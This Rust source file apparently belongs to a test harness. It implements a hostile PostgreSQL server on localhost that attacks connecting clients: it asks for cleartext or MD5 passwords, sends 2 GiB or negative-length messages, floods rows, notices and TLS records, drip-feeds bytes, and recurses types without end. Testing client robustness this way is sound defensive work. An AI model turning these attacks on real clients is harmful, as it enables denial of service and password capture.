//! Attacks on clients of PostgreSQL, before they are let in and after.

use std::io::{self, Read, Write};
use std::time::Duration;

use super::case::cases;
use super::{Attack, Connection};

cases! {
    /// What a hostile PostgreSQL server does.
    pub enum Case {
        /// Asks for the password in clear text.
        AskCleartext = "ask-cleartext",
        /// Asks for the password hashed by MD5.
        AskMd5 = "ask-md5",
        /// Offers ways to log in without end.
        EndlessMechanisms = "endless-mechanisms",
        /// Answers the start with an error of 2 GiB.
        StartHugeError = "start-huge-error",
        /// Sends a message of 2 GiB instead of asking for a password.
        StartHugeMessage = "start-huge-message",
        /// Sends a message of negative length instead of asking for a password.
        StartNegativeLength = "start-negative-length",
        /// Sends parameters without end instead of letting the client in.
        StartParameters = "start-parameters",
        /// Sends parameters of a megabyte each without end instead of letting the client in.
        StartLongParameters = "start-long-parameters",
        /// Sends notices without end instead of letting the client in.
        StartNotices = "start-notices",
        /// Asks one byte a second for a password.
        StartDrip = "start-drip",
        /// Agrees to encryption, and sends handshakes without end.
        TlsHandshakes = "tls-handshakes",
        /// Agrees to encryption, and sends alerts that are only warnings without end.
        TlsWarnings = "tls-warnings",
        /// Agrees to encryption, and sends one byte a second.
        TlsDrip = "tls-drip",
        /// Answers a query with rows without end.
        EndlessRows = "endless-rows",
        /// Answers a query with rows of a megabyte without end.
        EndlessLongRows = "endless-long-rows",
        /// Answers a query with a row of 2 GiB.
        HugeRow = "huge-row",
        /// Answers a query with one row, one byte a second.
        DripRows = "drip-rows",
        /// Answers a query with a row of 65535 columns with long names.
        ManyColumns = "many-columns",
        /// Answers a query with descriptions of rows without end.
        EndlessDescriptions = "endless-descriptions",
        /// Sends notices without end while a query runs.
        EndlessNotices = "endless-notices",
        /// Sends notifications without end while a query runs.
        EndlessNotifications = "endless-notifications",
        /// Sends parameters without end while a query runs.
        EndlessParameters = "endless-parameters",
        /// Sends parameters without end while a query runs, each of another name.
        NamedParameters = "named-parameters",
        /// Answers a query with a value whose type is an array of another type, and so on without end.
        EndlessTypes = "endless-types",
        /// Answers a query with errors without end.
        EndlessErrors = "endless-errors",
        /// Answers a query with an error of 2 GiB.
        HugeError = "huge-error",
        /// Answers a query with a message of negative length.
        NegativeLength = "negative-length",
        /// Answers a query with a row whose only column has a negative length.
        NegativeColumn = "negative-column",
        /// Answers a query with a row that is shorter than it says.
        ShortRow = "short-row",
        /// Never answers a query.
        Silence = "silence",
    }
}

impl Attack for Case {
    fn url(self, port: u16) -> String {
        let mode = if self.is_encrypted() { "require" } else { "disable" };
        format!("postgres://app:hostile-Passw0rd@127.0.0.1:{port}/app?sslmode={mode}")
    }

    fn serve(self, connection: &mut Connection) -> io::Result<()> {
        if !self.is_encrypted() {
            greet(connection, b'N')?;
            self.start(connection)?;
            return self.queries(connection);
        }
        greet(connection, b'S')?;
        // A record of TLS 1.2: its type, its version and its length.
        match self {
            Self::TlsHandshakes => connection.flood(&[22, 3, 3, 0, 4, 0, 0, 0, 0]),
            Self::TlsWarnings => connection.flood(&[21, 3, 3, 0, 2, 1, 90]),
            _ => {
                connection.write_all(&[22, 3, 3, 0x40, 0, 2, 0xff, 0xff, 0xff])?;
                connection.drip(&[0], Duration::from_secs(1))
            }
        }
    }
}

impl Case {
    fn is_encrypted(self) -> bool {
        matches!(self, Self::TlsHandshakes | Self::TlsWarnings | Self::TlsDrip)
    }

    /// Does what happens before the client has logged in.
    fn start(self, connection: &mut Connection) -> io::Result<()> {
        match self {
            Self::AskCleartext => ask(connection, &3_u32.to_be_bytes()),
            Self::AskMd5 => ask(connection, &[0, 0, 0, 5, 1, 2, 3, 4]),
            Self::EndlessMechanisms => {
                connection.write_all(&head(b'R', 0x7fff_ffff))?;
                connection.write_all(&10_u32.to_be_bytes())?;
                connection.flood(b"SCRAM-SHA-1\0")
            }
            Self::StartHugeError => {
                connection.write_all(&head(b'E', 0x7fff_ffff))?;
                connection.write_all(b"SFATAL\0C53300\0M")?;
                connection.flood(b"x")
            }
            Self::StartHugeMessage => {
                connection.write_all(&head(b'R', 0x7fff_ffff))?;
                connection.flood(&[0])
            }
            Self::StartNegativeLength => {
                connection.write_all(&head(b'R', 0xffff_ffff))?;
                connection.flood(&[0])
            }
            Self::StartDrip => connection.drip(&message(b'R', &3_u32.to_be_bytes()), Duration::from_secs(1)),
            _ => {
                connection.write_all(&message(b'R', &0_u32.to_be_bytes()))?;
                match self {
                    Self::StartParameters => connection.flood(&parameter()),
                    Self::StartLongParameters => {
                        connection.flood(&message(b'S', &[&b"a\0"[..], &[b'x'; 1 << 20], b"\0"].concat()))
                    }
                    Self::StartNotices => connection.flood(&notice()),
                    _ => let_in(connection),
                }
            }
        }
    }

    /// Sends the answer to a query that returns rows.
    fn answer(self, connection: &mut Connection) -> io::Result<()> {
        match self {
            Self::EndlessRows => connection.flood(&row(b"1")),
            Self::EndlessLongRows => connection.flood(&row(&[b'1'; 1 << 20])),
            Self::HugeRow => {
                connection.write_all(&head(b'D', 0x7fff_ffff))?;
                connection.write_all(&[0, 1, 0x7f, 0xff, 0xff, 0xf5])?;
                connection.flood(b"1")
            }
            Self::DripRows => connection.drip(&row(&[b'1'; 1024]), Duration::from_secs(1)),
            Self::ManyColumns => {
                let column = column(&"c".repeat(1 << 10), TEXT);
                connection
                    .write_all(&message(b'T', &[&[0xff, 0xff][..], &column.repeat(0xffff)].concat()))?;
                connection.write_all(&message(b'D', &[&[0xff, 0xff][..], &[0xff; 4 * 0xffff]].concat()))?;
                connection.write_all(&[message(b'C', b"SELECT 1\0"), ready()].concat())?;
                connection.listen()
            }
            Self::EndlessDescriptions => connection.flood(&description()),
            Self::EndlessNotices => connection.flood(&notice()),
            Self::EndlessNotifications => connection.flood(&message(b'A', b"\0\0\0\x01channel\0payload\0")),
            Self::EndlessParameters => connection.flood(&parameter()),
            Self::NamedParameters => {
                for number in 0_u64.. {
                    let parameter =
                        |i| message(b'S', format!("{number}.{i}\0{}\0", "x".repeat(200)).as_bytes());
                    connection.write_all(&(0..1000).flat_map(parameter).collect::<Vec<_>>())?;
                }
                Ok(())
            }
            Self::EndlessErrors => connection.flood(&message(b'E', b"SERROR\0VERROR\0C42P01\0Mno\0\0")),
            Self::HugeError => {
                connection.write_all(&head(b'E', 0x7fff_ffff))?;
                connection.write_all(b"SERROR\0VERROR\0C42P01\0M")?;
                connection.flood(b"x")
            }
            Self::NegativeLength => {
                connection.write_all(&head(b'D', 0xffff_fff0))?;
                connection.flood(b"1")
            }
            Self::NegativeColumn => {
                connection.write_all(&message(b'D', &[0, 1, 0xff, 0xff, 0xff, 0]))?;
                connection.write_all(&[message(b'C', b"SELECT 1\0"), ready()].concat())?;
                connection.listen()
            }
            Self::ShortRow => {
                connection.write_all(&message(b'D', &[0, 9, 0, 0, 0, 9]))?;
                connection.write_all(&[message(b'C', b"SELECT 1\0"), ready()].concat())?;
                connection.listen()
            }
            _ => connection.listen(),
        }
    }
}

/// The types `"char"`, `text` and `oid`, and the first of those that a project makes.
const CHAR: u32 = 18;
const TEXT: u32 = 25;
const OID: u32 = 26;
const FIRST_TYPE: u32 = 100_000;

/// Answers a request for encryption, and reads the start-up message.
pub(super) fn greet(connection: &mut Connection, encryption: u8) -> io::Result<()> {
    loop {
        let body = body(connection)?;
        match body.get(..4) {
            // SSLRequest and GSSENCRequest.
            Some([4, 0xd2, 0x16, 0x2f]) => {
                connection.write_all(&[encryption])?;
                if encryption == b'S' {
                    return Ok(());
                }
            }
            Some([4, 0xd2, 0x16, 0x30]) => connection.write_all(b"N")?,
            _ => return Ok(()),
        }
    }
}

/// Asks for a password, and lets everybody in.
fn ask(connection: &mut Connection, how: &[u8]) -> io::Result<()> {
    connection.write_all(&message(b'R', how))?;
    connection.read_exact(&mut [0])?;
    body(connection)?;
    connection.write_all(&message(b'R', &0_u32.to_be_bytes()))?;
    let_in(connection)
}

/// Sends what a server sends after the login.
fn let_in(connection: &mut Connection) -> io::Result<()> {
    for parameter in ["server_version\x0017.0\0", "client_encoding\0UTF8\0", "server_encoding\0UTF8\0"] {
        connection.write_all(&message(b'S', parameter.as_bytes()))?;
    }
    connection.write_all(&[message(b'K', &[0, 0, 0, 1, 0, 0, 0, 2]), ready()].concat())
}

impl Case {
    /// Answers what wants no rows, and attacks with the answer to the rest.
    fn queries(self, connection: &mut Connection) -> io::Result<()> {
        let (mut prepared, mut parameters, mut types) = (Prepared::Command, 0_u16, FIRST_TYPE);
        loop {
            let mut kind = [0];
            connection.read_exact(&mut kind)?;
            let body = body(connection)?;
            match kind[0] {
                b'Q' => {
                    if returns_rows(&body) {
                        connection.write_all(&description())?;
                        self.answer(connection)?;
                    }
                    connection.write_all(&[message(b'C', b"SET\0"), ready()].concat())?;
                }
                b'P' => {
                    let text = body.splitn(2, |byte| *byte == 0).nth(1).unwrap_or_default();
                    prepared = Prepared::of(text);
                    parameters = (1..100).take_while(|n| has(text, &format!("${n}"))).count() as u16;
                    connection.write_all(&message(b'1', b""))?;
                }
                b'D' => {
                    let kind = if prepared == Prepared::TypeQuery { OID } else { TEXT };
                    let kinds = kind.to_be_bytes().repeat(parameters.into());
                    connection
                        .write_all(&message(b't', &[&parameters.to_be_bytes()[..], &kinds].concat()))?;
                    connection.write_all(&match prepared {
                        Prepared::Command => message(b'n', b""),
                        Prepared::TypeQuery => type_description(),
                        Prepared::Query if self == Self::EndlessTypes => {
                            message(b'T', &[&[0, 1][..], &column("value", types)].concat())
                        }
                        Prepared::Query => description(),
                    })?;
                }
                b'B' => connection.write_all(&message(b'2', b""))?,
                b'E' => {
                    match prepared {
                        Prepared::Command => {}
                        Prepared::TypeQuery => {
                            types += 1;
                            connection.write_all(&array_of(types))?;
                        }
                        Prepared::Query => self.answer(connection)?,
                    }
                    connection.write_all(&message(b'C', b"SET\0"))?;
                }
                b'C' => connection.write_all(&message(b'3', b""))?,
                b'S' => connection.write_all(&ready())?,
                b'X' => return Ok(()),
                _ => {}
            }
        }
    }
}

/// What was prepared last.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Prepared {
    /// It returns no rows.
    Command,
    Query,
    /// The query of `tokio-postgres` for a type that it does not know.
    TypeQuery,
}

impl Prepared {
    fn of(text: &[u8]) -> Self {
        match (has(text, "t.typelem"), returns_rows(text)) {
            (true, _) => Self::TypeQuery,
            (_, true) => Self::Query,
            _ => Self::Command,
        }
    }
}

/// Returns whether one of the statements returns rows.
fn returns_rows(text: &[u8]) -> bool {
    ["SELECT", "SHOW", "select", "show"].iter().any(|word| has(text, word))
}

fn has(text: &[u8], word: &str) -> bool {
    text.windows(word.len()).any(|part| part == word.as_bytes())
}

/// Reads a message behind its type.
fn body(connection: &mut Connection) -> io::Result<Vec<u8>> {
    const LONGEST: usize = 1 << 20;
    let mut length = [0; 4];
    connection.read_exact(&mut length)?;
    let mut body = vec![0; (u32::from_be_bytes(length) as usize).saturating_sub(4).min(LONGEST)];
    connection.read_exact(&mut body)?;
    Ok(body)
}

/// Returns the type of a message and its length, which counts itself.
fn head(kind: u8, length: u32) -> Vec<u8> {
    [&[kind][..], &length.to_be_bytes()].concat()
}

/// Returns a whole message.
pub(super) fn message(kind: u8, body: &[u8]) -> Vec<u8> {
    let length = u32::try_from(body.len() + 4).expect("less than 4 GiB");
    [&head(kind, length)[..], body].concat()
}

fn ready() -> Vec<u8> {
    message(b'Z', b"I")
}

fn parameter() -> Vec<u8> {
    message(b'S', b"application_name\0hostile\0")
}

fn notice() -> Vec<u8> {
    message(b'N', b"SNOTICE\0VNOTICE\0C00000\0Mread this\0\0")
}

/// Returns a row of one column.
fn row(value: &[u8]) -> Vec<u8> {
    let length = u32::try_from(value.len()).expect("less than 4 GiB").to_be_bytes();
    message(b'D', &[&[0, 1][..], &length, value].concat())
}

/// Returns the description of such a row.
fn description() -> Vec<u8> {
    message(b'T', &[&[0, 1][..], &column("value", TEXT)].concat())
}

/// Returns a column: its name, no table, its type of any length, as text.
fn column(name: &str, kind: u32) -> Vec<u8> {
    [name.as_bytes(), &[0; 7], &kind.to_be_bytes(), &[0xff; 6], &[0; 2]].concat()
}

/// Returns the description of the answer to a [`Prepared::TypeQuery`].
fn type_description() -> Vec<u8> {
    let columns = [TEXT, CHAR, OID, OID, OID, TEXT, OID].map(|kind| column("value", kind)).concat();
    message(b'T', &[&[0, 7][..], &columns].concat())
}

/// That answer: an array of the type with this number.
fn array_of(number: u32) -> Vec<u8> {
    let value = |bytes: &[u8]| [&(bytes.len() as u32).to_be_bytes()[..], bytes].concat();
    let none = [0xff; 4].to_vec();
    let zero = || value(&[0; 4]);
    let number = value(&number.to_be_bytes());
    let columns = [value(b"an_array"), value(b"b"), number, none, zero(), value(b"public"), zero()].concat();
    message(b'D', &[&[0, 7][..], &columns].concat())
}
